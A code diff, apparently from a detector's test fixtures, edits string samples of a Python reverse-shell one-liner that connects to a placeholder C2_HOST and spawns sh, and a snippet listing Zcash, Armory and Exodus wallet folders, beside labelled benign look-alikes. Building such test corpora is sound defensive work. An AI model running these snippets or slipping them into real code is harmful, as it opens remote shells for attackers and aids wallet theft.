@@ -154,10 +154,10 @@ WALLET = os.environ["APPDATA"] + "\\Exodus\\exodus.wallet"
 """
 DESKTOP_WALLETS = """\
 import os
-wallets = (
-    ("Zcash", os.path.join(os.getenv("appdata"), "Zcash")),
-    ("Armory", os.path.join(os.getenv("appdata"), "Armory")),
-)
+from pathlib import Path
+
+ROOT = Path(os.environ["APPDATA"])
+STORES = {name: ROOT / name for name in ("Armory", "Zcash")}
 """
 # A fake-data provider's list of currencies: coin names, no folders.
 CURRENCY_LIST = """\
@@ -287,8 +287,8 @@ for fd in (0, 1, 2):
 pty.spawn("/bin/sh")
 """
 SOCKET_DUP2_COMPREHENSION = (
-    f'import os,pty,socket;s=socket.socket();s.connect(("{C2_HOST}",1338));'
-    '[os.dup2(s.fileno(),f)for f in(0,1,2)];pty.spawn("sh")\n'
+    f'import os,pty,socket;c=socket.create_connection(("{C2_HOST}",4444));'
+    '[os.dup2(c.fileno(),n)for n in(0,1,2)];pty.spawn("sh")\n'
 )
 # A container entrypoint waiting for a local port to open.
 PORT_PROBE = (
